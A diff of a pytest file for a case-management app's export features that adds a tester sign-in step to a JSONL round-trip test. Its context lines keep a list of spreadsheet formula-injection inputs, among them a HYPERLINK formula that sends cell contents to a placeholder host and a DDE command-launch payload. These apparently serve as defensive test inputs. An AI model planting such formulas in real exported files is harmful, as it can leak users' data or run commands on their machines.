@@ -5,6 +5,8 @@ import json
 import pytest
 from openpyxl import load_workbook
 
+from tests.conftest import sign_in_tester
+
 HOSTILE = ["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点我\")", "=WEBSERVICE(\"http://example.invalid\")",
            "+1+2", "-2+3", "@SUM(A1:A2)", " \t=1+1", "\r=cmd|' /C calc'!A0"]
 
@@ -50,6 +52,7 @@ def test_jsonl_export_imports_back_into_an_empty_database(hostile_desk, tmp_path
     lines = (tmp_path / "all.jsonl").read_text(encoding="utf-8").splitlines()
     assert len(lines) == n and json.loads(lines[0])["case_no"]
     empty = Desk(Store(f"sqlite:///{tmp_path / 'empty.db'}"))
+    sign_in_tester(empty.store)
     numbers = empty.ledger.import_file(tmp_path / "all.jsonl")
     assert len(numbers) == n
     assert sorted(c["facts"] for c in empty.cases.list()) == sorted(c["facts"] for c in hostile_desk.cases.list())
